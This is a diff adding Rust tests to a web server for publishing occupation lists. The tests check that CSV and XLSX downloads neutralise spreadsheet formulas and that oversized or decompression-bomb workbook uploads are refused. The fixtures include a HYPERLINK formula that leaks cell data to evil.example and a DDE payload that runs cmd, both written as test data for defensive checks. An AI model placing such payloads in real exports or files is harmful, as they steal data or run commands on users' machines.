@@ -508,3 +508,163 @@ async fn the_list_in_force_on_a_date() {
     get(&h, None, &format!("/api/v1/published-lists/{a}/entries/7212")).await.problem(404);
     get(&h, None, &format!("/api/v1/published-lists/{c}/entries/2512")).await.problem(404);
 }
+
+#[tokio::test]
+async fn downloads_never_hand_a_spreadsheet_a_formula() {
+    use http_body_util::BodyExt;
+    use tower::ServiceExt;
+    let h = Harness::new().await;
+    let analyst = h.bearer(Role::Analyst).await;
+    import_all(&h, &analyst).await;
+    let step = |id: i64, s: &str| format!("/api/v1/lists/{id}/{s}");
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"details")"#;
+    let sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let id = draft(&h, &analyst).await;
+    expect(&post(&h, &analyst, &step(id, "send"), json!({})).await, 200);
+    let revision = json!({"note": "update", "changes": [
+        {"occupation": "2145", "change": "remove", "justification": hyperlink},
+        {"occupation": NOT_ON_LIST, "change": "add", "justification": sum},
+    ]});
+    expect(&post(&h, &analyst, &step(id, "revisions"), revision).await, 201);
+    expect(
+        &post(&h, &analyst, &step(id, "approve"), json!({"order_no": "F-1", "order_date": "2026-01-05"}))
+            .await,
+        200,
+    );
+    expect(&post(&h, &analyst, &step(id, "publish"), json!({"effective_from": "2026-01-10"})).await, 200);
+
+    // CSV: the formulas come back as text after an apostrophe; figures stay figures.
+    let reply = get(&h, None, &format!("/lists/{id}/download/csv")).await;
+    assert_eq!(reply.status, 200, "{}", reply.body);
+    let mut reader = csv::Reader::from_reader(reply.body.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (occupation, justification, score, rank) =
+        (column("occupation"), column("justification"), column("score"), column("rank"));
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let of = |code: &str| rows.iter().find(|r| &r[occupation] == code).unwrap().clone();
+    assert_eq!(&of("2145")[justification], format!("'{hyperlink}"));
+    assert_eq!(&of(NOT_ON_LIST)[justification], format!("'{sum}"));
+    for r in &rows {
+        assert!(r[score].parse::<f64>().is_ok() && r[rank].parse::<u32>().is_ok(), "{r:?}");
+        for cell in r.iter() {
+            let first = cell.chars().next();
+            assert!(
+                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
+                    && (first != Some('-') || cell.parse::<f64>().is_ok()),
+                "a cell that a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+
+    // XLSX: the same text, written as a string cell, never as a formula.
+    let req = Request::get(format!("/lists/{id}/download/xlsx")).body(Body::empty()).unwrap();
+    let res = ashyq_server::app(h.state.clone()).oneshot(req).await.unwrap();
+    assert_eq!(res.status(), 200);
+    let bytes = res.into_body().collect().await.unwrap().to_bytes().to_vec();
+    let mut book: calamine::Xlsx<_> = calamine::Reader::new(std::io::Cursor::new(bytes.clone())).unwrap();
+    let sheet = calamine::Reader::worksheet_range(&mut book, "list").unwrap();
+    let texts: Vec<String> = sheet.rows().flat_map(|r| r.iter().map(|c| c.to_string())).collect();
+    assert!(texts.iter().any(|t| t == hyperlink) && texts.iter().any(|t| t == sum), "{texts:?}");
+    let formulas = calamine::Reader::worksheet_formula(&mut book, "list").unwrap();
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula in the workbook");
+}
+
+/// A small workbook whose one shared string unpacks to `string_bytes` bytes.
+fn workbook_with_a_long_string(string_bytes: usize) -> Vec<u8> {
+    use std::io::Write;
+    let ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+    let rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    let parts = [
+        ("[Content_Types].xml", r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#.to_string()),
+        ("_rels/.rels", format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#)),
+        ("xl/workbook.xml", format!(r#"<?xml version="1.0"?><workbook xmlns="{ns}" xmlns:r="{rel}"><sheets><sheet name="data" sheetId="1" r:id="rId1"/></sheets></workbook>"#)),
+        ("xl/_rels/workbook.xml.rels", format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#)),
+        ("xl/worksheets/sheet1.xml", format!(r#"<?xml version="1.0"?><worksheet xmlns="{ns}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>"#)),
+        ("xl/sharedStrings.xml", format!(r#"<?xml version="1.0"?><sst xmlns="{ns}" count="1" uniqueCount="1"><si><t>{}</t></si></sst>"#, "a".repeat(string_bytes))),
+    ];
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (name, text) in parts {
+        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
+        zip.write_all(text.as_bytes()).unwrap();
+    }
+    zip.finish().unwrap().into_inner()
+}
+
+/// The analysis page's upload form, as the analyst in `lang`.
+async fn upload_page(h: &Harness, lang: &str, source: &str, file: &[u8]) -> Reply {
+    let (cookie, csrf) = h.session(Role::Analyst).await;
+    let mut body = Vec::new();
+    for (k, v) in [("csrf", csrf.as_str()), ("source", source)] {
+        body.extend_from_slice(
+            format!("--XB\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n").as_bytes(),
+        );
+    }
+    body.extend_from_slice(
+        b"--XB\r\nContent-Disposition: form-data; name=\"file\"; filename=\"book.xlsx\"\r\n\r\n",
+    );
+    body.extend_from_slice(file);
+    body.extend_from_slice(b"\r\n--XB--\r\n");
+    let req = Request::post("/analysis/imports")
+        .header("cookie", format!("{cookie}; ashyq_lang={lang}"))
+        .header("content-type", "multipart/form-data; boundary=XB")
+        .body(Body::from(body))
+        .unwrap();
+    h.send(req).await
+}
+
+#[tokio::test]
+async fn uploads_keep_their_limit_while_they_arrive_and_hostile_workbooks_are_refused() {
+    let mut h = Harness::new().await;
+    let analyst = h.bearer(Role::Analyst).await;
+    let limit = 1024 * 1024;
+    h.state.config =
+        std::sync::Arc::new(ashyq_server::ServerConfig { import_limit_bytes: limit, ..Default::default() });
+    let mut csv = labour::forecast_csv(&OCCUPATIONS);
+    expect(&upload(&h, &analyst, "forecast", "", csv.clone()).await, 201);
+    let line = csv.lines().nth(1).unwrap().to_string();
+    while csv.len() <= limit {
+        csv.push_str(&line);
+        csv.push('\n');
+    }
+    // Over the limit, by its declared length or, sent in pieces without one, as it arrives.
+    let p = upload(&h, &analyst, "forecast", "", csv.clone()).await.problem(413);
+    assert_eq!(p["code"], "payload_too_large");
+    let pieces: Vec<Result<axum::body::Bytes, std::io::Error>> =
+        csv.as_bytes().chunks(4096).map(|c| Ok(axum::body::Bytes::copy_from_slice(c))).collect();
+    let req = Request::post("/api/v1/imports/forecast")
+        .header("authorization", format!("Bearer {analyst}"))
+        .header("content-type", "text/csv")
+        .body(Body::from_stream(futures_util::stream::iter(pieces)))
+        .unwrap();
+    assert!(req.headers().get("content-length").is_none());
+    assert_eq!(h.send(req).await.problem(413)["code"], "payload_too_large");
+    assert_eq!(imports_recorded(&h, &analyst).await, 1);
+    // On the page: the same limit, said in words.
+    let page = upload_page(&h, "en", "forecast", csv.as_bytes()).await;
+    assert_eq!(page.status, 413, "{}", page.body);
+    assert!(page.body.contains("The file is too large: at most 1 MB."), "{}", page.body);
+
+    // A workbook of a few kilobytes whose one text unpacks to 2 MiB: 422 naming the part, and
+    // in words on the page.
+    let book = workbook_with_a_long_string(2 * 1024 * 1024);
+    assert!(book.len() < 16 * 1024, "{} bytes", book.len());
+    let req = Request::post("/api/v1/imports/vacancies?file_name=book.xlsx")
+        .header("authorization", format!("Bearer {analyst}"))
+        .header("content-type", "application/octet-stream")
+        .body(Body::from(book.clone()))
+        .unwrap();
+    let p = h.send(req).await.problem(422);
+    assert_eq!(p["code"], "unreadable");
+    assert_eq!(p["detail"], "book.xlsx: xl/sharedStrings.xml: shared string 0 is larger than 1048576 bytes");
+    let page = upload_page(&h, "ru", "vacancies", &book).await;
+    assert_eq!(page.status, 422, "{}", page.body);
+    let said = "book.xlsx: общий текст № 0 книги (xl/sharedStrings.xml) больше 1 МБ; он не читается.";
+    assert!(page.body.contains(&common::esc(said)), "{}", page.body);
+    // The same workbook with a short text is read (and refused by its header, as a workbook).
+    let book = workbook_with_a_long_string(10);
+    let page = upload_page(&h, "en", "vacancies", &book).await;
+    assert_eq!(page.status, 422, "{}", page.body);
+    assert!(page.body.contains("header"), "{}", page.body);
+    assert_eq!(imports_recorded(&h, &analyst).await, 1);
+}
